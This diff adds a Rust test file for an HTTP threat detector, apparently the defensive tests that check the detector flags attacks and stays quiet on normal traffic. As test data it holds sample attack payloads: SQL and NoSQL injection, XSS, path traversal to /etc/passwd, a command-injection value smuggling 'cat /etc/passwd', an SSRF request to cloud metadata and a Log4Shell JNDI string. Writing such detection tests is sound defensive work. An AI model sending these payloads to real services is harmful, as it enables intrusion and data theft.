@@ -1,0 +1,222 @@
+use intelligence::Exchange;
+use intelligence::auth::AuthScheme;
+use intelligence::exchange::Side;
+use proptest::prelude::*;
+
+use super::*;
+
+fn exchange<'a>(
+    path: &'a str,
+    query: Option<&'a str>,
+    request: Side<'a>,
+    response: Side<'a>,
+) -> Exchange<'a> {
+    Exchange {
+        method: "POST",
+        path,
+        query,
+        status: Some(200),
+        request,
+        response,
+        caller: "test",
+        auth: AuthScheme::None,
+        time_unix_secs: 0,
+        latency_us: None,
+    }
+}
+
+fn side<'a>(headers: &'a [(&'a str, &'a str)], body: &'a [u8]) -> Side<'a> {
+    Side {
+        headers,
+        body,
+        body_complete: true,
+        seen: true,
+    }
+}
+
+/// (path, query, headers, body, expected kind, expected location).
+type RequestCase<'a> = (
+    &'a str,
+    Option<&'a str>,
+    &'a [(&'a str, &'a str)],
+    &'a [u8],
+    ThreatKind,
+    &'a str,
+);
+
+fn kinds(threats: &[Threat]) -> Vec<ThreatKind> {
+    threats.iter().map(|t| t.kind).collect()
+}
+
+#[test]
+fn each_request_detector_fires_where_its_payload_sits() {
+    let detector = Detector::new();
+    let json = [("Content-Type", "application/json")];
+    let form = [("Content-Type", "application/x-www-form-urlencoded")];
+    let cases: [RequestCase<'_>; 9] = [
+        (
+            "/items",
+            Some("id=1%27%20or%20%271%27%3D%271"),
+            &[],
+            b"",
+            ThreatKind::Sqli,
+            "query.id",
+        ),
+        (
+            "/items",
+            None,
+            &json,
+            br#"{"comment":"<svg onload=alert(1)>"}"#,
+            ThreatKind::Xss,
+            "body/comment",
+        ),
+        (
+            "/files",
+            Some("name=..%2f..%2fetc%2fpasswd"),
+            &[],
+            b"",
+            ThreatKind::PathTraversal,
+            "query.name",
+        ),
+        (
+            "/ping",
+            None,
+            &form,
+            b"host=127.0.0.1%3Bcat+%2Fetc%2Fpasswd",
+            ThreatKind::CommandInjection,
+            "body.host",
+        ),
+        (
+            "/fetch",
+            Some("url=http://169.254.169.254/latest/meta-data/"),
+            &[],
+            b"",
+            ThreatKind::Ssrf,
+            "query.url",
+        ),
+        (
+            "/",
+            None,
+            &[("X-Api-Version", "${${lower:j}ndi:ldap://x.example/a}")],
+            b"",
+            ThreatKind::Jndi,
+            "header.x-api-version",
+        ),
+        (
+            "/login",
+            None,
+            &json,
+            br#"{"user":"admin","password":{"$ne":null}}"#,
+            ThreatKind::Nosqli,
+            "body/password/$ne",
+        ),
+        (
+            "/",
+            None,
+            &[("User-Agent", "sqlmap/1.7")],
+            b"",
+            ThreatKind::Scanner,
+            "header.user-agent",
+        ),
+        (
+            "/",
+            None,
+            &[(
+                "Cookie",
+                "session=abc; theme=%3Cscript%3Ealert(1)%3C/script%3E",
+            )],
+            b"",
+            ThreatKind::Xss,
+            "cookie.theme",
+        ),
+    ];
+    for (path, query, headers, body, kind, location) in cases {
+        let threats =
+            detector.request(&exchange(path, query, side(headers, body), Side::default()));
+        assert!(
+            threats
+                .iter()
+                .any(|t| t.kind == kind && t.location == location),
+            "{kind:?} at {location} not found in {threats:?}"
+        );
+        assert!(
+            threats
+                .iter()
+                .all(|t| !t.evidence.contains("passwd") && !t.evidence.contains("alert"))
+        );
+    }
+}
+
+#[test]
+fn ordinary_api_traffic_is_quiet() {
+    let detector = Detector::new();
+    let json = [
+        ("Content-Type", "application/json"),
+        (
+            "User-Agent",
+            "Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0",
+        ),
+    ];
+    let body = br#"{"name":"Se\u00e1n O'Brien","address":"12 O'Connell St; Apt #4, Dublin","note":"Please select a plan from the list -- or drop table tennis from the agenda. Files live in ../docs/setup.md; see https://example.com/help?a=1&b=2","snippet":"if (a < b && c > d) { return x; } // compare","price":"$12.50 (incl. 20% VAT)"}"#;
+    let threats = detector.request(&exchange(
+        "/api/v1/customers/42",
+        Some("q=rock+%26+roll&sort=-created_at&page=2"),
+        side(&json, body),
+        Side::default(),
+    ));
+    assert!(threats.is_empty(), "{threats:?}");
+}
+
+#[test]
+fn responses_are_checked_for_leaks_and_headers() {
+    let detector = Detector::new();
+    let request = [
+        ("Origin", "https://evil.example"),
+        ("Host", "api.example.com"),
+    ];
+    let headers = [
+        ("Content-Type", "text/html"),
+        ("Access-Control-Allow-Origin", "https://evil.example"),
+        ("Access-Control-Allow-Credentials", "true"),
+        ("X-Backend", "10.0.4.2:8080"),
+    ];
+    let body = b"<h1>Whitelabel Error Page</h1><pre>java.lang.IllegalStateException: boom\n\tat com.acme.Api.get(Api.java:42)\n</pre>";
+    let threats = detector.response(&exchange(
+        "/",
+        None,
+        side(&request, b""),
+        side(&headers, body),
+    ));
+    let mut found = kinds(&threats);
+    found.sort();
+    assert_eq!(
+        found,
+        [
+            ThreatKind::StackTrace,
+            ThreatKind::DebugPage,
+            ThreatKind::InternalAddress,
+            ThreatKind::MissingSecurityHeaders,
+            ThreatKind::CorsMisconfigured
+        ]
+    );
+    let quiet = [("Content-Type", "application/json")];
+    let unseen = detector.response(&exchange(
+        "/",
+        None,
+        side(&request, b""),
+        side(&quiet, br#"{"error":"order not found"}"#),
+    ));
+    assert!(unseen.is_empty(), "{unseen:?}");
+}
+
+proptest! {
+    #[test]
+    fn arbitrary_bytes_never_panic(path in ".{0,64}", query in proptest::option::of(".{0,128}"), body in proptest::collection::vec(any::<u8>(), 0..512), header in ".{0,64}") {
+        let detector = Detector::new();
+        let headers = [("User-Agent", header.as_str()), ("Content-Type", "application/json"), ("Cookie", header.as_str())];
+        let call = exchange(&path, query.as_deref(), side(&headers, &body), side(&headers, &body));
+        let threats = detector.request(&call);
+        prop_assert!(threats.len() <= MAX_INPUTS * Check::ALL.len() + 2);
+        detector.response(&call);
+    }
+}
